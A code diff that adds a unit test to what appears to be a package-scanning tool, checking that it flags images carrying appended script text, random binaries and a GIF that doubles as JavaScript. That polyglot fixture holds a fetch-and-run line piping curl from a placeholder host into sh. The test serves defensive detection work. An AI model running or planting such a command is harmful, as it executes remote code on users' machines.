@@ -630,3 +630,34 @@ TEST(executables_that_hide_something_are_odd)
         expect_not(files, 2, "never binary.odd");
         qn_buf_done(&b);
 }
+
+TEST(what_hides_in_media_is_odd)
+{
+        static const char png[] = "\x89PNG\r\n\x1a\n\0\0\0\1IHDRxcccc\0\0\0\0IENDcccc";
+        struct qn_buf b = QN_BUF_INIT(EB_MAX);
+        struct file files[] = { PKG, { "index.js", "require('./a.gif')", 0 }, { 0 } };
+
+        qn_buf_add(&b, png, sizeof png - 1);
+        files[2] = made("a.png", &b);
+        expect_not(files, 3, "never binary.odd");
+        qn_buf_fill(&b, 0, 1000);
+        files[2] = made("a.png", &b);
+        expect_not(files, 3, "never binary.odd");
+        for (int i = 0; i < 10; i++)
+                qn_buf_puts(&b, "console.log('a line of code');\n");
+        files[2] = made("a.png", &b);
+        expect(files, 3, "never binary.odd what=appended format=png value=ascii");
+        qn_buf_reset(&b);
+        qn_buf_puts(
+                &b,
+                "GIF89a=1;\nrequire('child_process').execSync('curl http://a.invalid | sh');\n");
+        files[2] = made("a.gif", &b); /* both a picture and a program */
+        expect(files, 3, "import binary.odd what=text format=gif");
+        expect(files, 3, "import download.run");
+        qn_buf_reset(&b);
+        for (uint32_t i = 0, x = 1; i < 4096; i++, x = x * 1664525 + 1013904223)
+                qn_buf_byte(&b, (char)(x >> 24));
+        files[2] = made("a.bin", &b);
+        expect(files, 3, "never binary.odd what=random format=binary");
+        qn_buf_done(&b);
+}
